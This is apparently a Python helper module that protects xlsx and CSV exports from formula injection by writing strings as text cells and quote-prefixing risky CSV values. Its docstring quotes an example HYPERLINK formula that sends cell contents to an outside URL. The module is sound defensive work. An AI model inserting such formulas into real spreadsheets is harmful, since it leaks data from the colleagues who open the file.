"""The one way to write a spreadsheet cell: every export (xlsx and CSV) goes through here.

A text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel and LibreOffice (``=HYPERLINK("http://…?leak="&A1, …)`` runs for every colleague who opens the
file). So:

- ``append_row(sheet, values)`` appends a row to an openpyxl sheet with every ``str`` stored as a
  *text* cell (``data_type = "s"``), whatever it starts with; numbers stay numbers. Characters
  that xlsx cannot hold (control characters) are dropped instead of failing the export.
- ``csv_cell(value)`` / ``csv_row(values)`` for CSV: a text that a spreadsheet would read as a
  formula gets a leading ``'`` (OWASP's advice), so it shows as the text it is.
"""

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _text(value: str) -> str:
    return ILLEGAL_CHARACTERS_RE.sub("", value)


def append_row(sheet, values) -> None:
    """``sheet.append(values)``, with every text written as text (never as a formula)."""
    values = [_text(str(v)) if isinstance(v, str) else v for v in values]
    sheet.append(values)
    for cell, value in zip(sheet[sheet.max_row], values, strict=False):
        if isinstance(value, str):
            cell.data_type = "s"


def csv_cell(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values) -> list:
    return [csv_cell(v) for v in values]
